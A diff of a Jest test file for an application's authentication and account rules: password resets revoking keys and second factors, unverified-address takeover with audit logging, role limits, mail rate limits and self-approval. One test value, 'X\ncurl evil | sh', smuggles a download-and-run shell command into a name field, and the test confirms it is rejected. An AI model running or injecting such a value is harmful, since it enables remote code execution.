@@ -72,19 +72,23 @@ describe('who has not confirmed their address', () => {
   })
 
   test('keeps nothing that they prepared when its owner resets the password', async () => {
-    const { found, as, anyone, deliver, mailedTo } = world()
+    const { found, as, anyone, deliver, mailedTo, now } = world()
     const ada = await found()
     const { key } = await ApiKey.create(ada.ctx, { name: 'k', permissions: ['read:costs'] })
+    const { uri } = await Totp.begin(ada.ctx, { password })
+    await Totp.confirm(ada.ctx, { code: new TOTP({ secret: new URL(uri).searchParams.get('secret') ?? '' }).generate({ timestamp: now().getTime() }) })
     await User.edit(ada.ctx, ada.userId, () => ({ emailVerified: false }))
     await Login.forgotPassword(anyone(), { email: ada.email })
     await deliver()
     await Login.resetPassword(anyone(), { token: mailedTo(ada.email), newPassword: 'another battery staple' })
     expect(await refusal(as(key))).toMatchObject({ code: 'unauthenticated' })
     expect(await refusal(as(ada.accessToken))).toMatchObject({ code: 'unauthenticated' })
+    const { accessToken } = await Login.login(anyone(), { email: ada.email, password: 'another battery staple' })
+    expect((await me(await as(accessToken), {})).user).toMatchObject({ emailVerified: true, hasSecondFactor: false })
   })
 
   test('loses the address after a week to who registers it, and is locked out', async () => {
-    const { anyone, as, pass } = world()
+    const { anyone, as, pass, runtime } = world()
     const email = 'owner@example.com'
     const again = async () => await register(anyone(), { email, password, companyName: 'Second', role: 'cfo' })
     const first = await register(anyone(), { email, password, companyName: 'First', role: 'cfo' })
@@ -95,6 +99,9 @@ describe('who has not confirmed their address', () => {
     const { accessToken } = await Login.login(anyone(), { email, password })
     expect((await as(accessToken)).orgId).toBe(second.organizationId)
     expect(await refusal(Session.refresh(anyone(), { refreshToken: first.refreshToken }))).toMatchObject({ code: 'unauthenticated' })
+    const entry = (await runtime.tables.audit.all(first.organizationId)).at(-1)
+    expect(entry).toMatchObject({ action: 'users.deactivate', actorKind: 'system', resourceId: first.userId, after: { isActive: false } })
+    expect(JSON.stringify(entry)).not.toMatch(new RegExp(`${second.userId}|${second.organizationId}|192\\.0\\.2`))
   })
 })
 
@@ -108,6 +115,10 @@ describe('nobody gives more than they have', () => {
     await expect(Invitation.create(ctx, { email: 'x@example.com', role: 'viewer' })).resolves.toBeDefined()
     expect(await refusal(Invitation.create(ctx, { email: 'y@example.com', role: 'admin' }))).toMatchObject({ code: 'forbidden' })
     expect(await refusal(User.changeRole(ctx, { id: bob.userId, role: 'admin' }))).toMatchObject({ code: 'forbidden' })
+    const eve = await join(ada, 'admin')
+    for (const { userId } of [eve, bob]) await User.deactivate(ada.ctx, { id: userId })
+    expect(await refusal(User.reactivate(ctx, { id: eve.userId }))).toMatchObject({ code: 'forbidden' })
+    await expect(User.reactivate(ctx, { id: bob.userId })).resolves.toMatchObject({ isActive: true })
   })
 
   test('an invitation ends with who made it', async () => {
@@ -122,14 +133,17 @@ describe('nobody gives more than they have', () => {
   })
 })
 
-test('a mailbox gets five mails an hour, however many are asked for', async () => {
-  const { found, anyone, deliver, runtime, pass } = world()
+test('a mailbox gets five mails of a kind an hour, however many are asked for, and the warning that comes after them', async () => {
+  const { found, anyone, deliver, runtime } = world()
   const ada = await found()
-  pass(3600)
+  await deliver()
   const before = runtime.mails.length
   for (let n = 0; n < 20; n++) await Login.forgotPassword(anyone(`192.0.2.${n}`), { email: ada.email })
   await deliver()
   expect(runtime.mails.length - before).toBe(5)
+  await Login.changePassword(ada.ctx, { currentPassword: password, newPassword: 'another battery staple' })
+  await deliver()
+  expect(runtime.mails.slice(before + 5)).toMatchObject([{ to: ada.email, subject: 'CloudOptima: Your password was changed' }])
 })
 
 test('codes of the second factor are counted wherever they come from', async () => {
@@ -166,4 +180,15 @@ test.each(['X\ncurl evil | sh', 'a\u0007b', 'a\u2028b', ' '])('%j is no name of 
   const ada = await found()
   expect(await refusal(Organization.update(ada.ctx, { name }))).toMatchObject({ code: 'invalid' })
   expect(await refusal(ApiKey.create(ada.ctx, { name, permissions: ['read:costs'] }))).toMatchObject({ code: 'invalid' })
+})
+
+test('who is alone in an organisation may approve their own requests; of two nobody may', async () => {
+  const { found, join } = world()
+  const ada = await found()
+  const approvalRules = { approvals: 1, allowSelfApproval: true }
+  await expect(Organization.update(ada.ctx, { approvalRules })).resolves.toMatchObject({ approvalRules })
+  const bob = await join(ada, 'devops')
+  expect(await refusal(Organization.update(ada.ctx, { approvalRules }))).toMatchObject({ code: 'invalid' })
+  await User.deactivate(ada.ctx, { id: bob.userId })
+  await expect(Organization.update(ada.ctx, { approvalRules })).resolves.toBeDefined()
 })
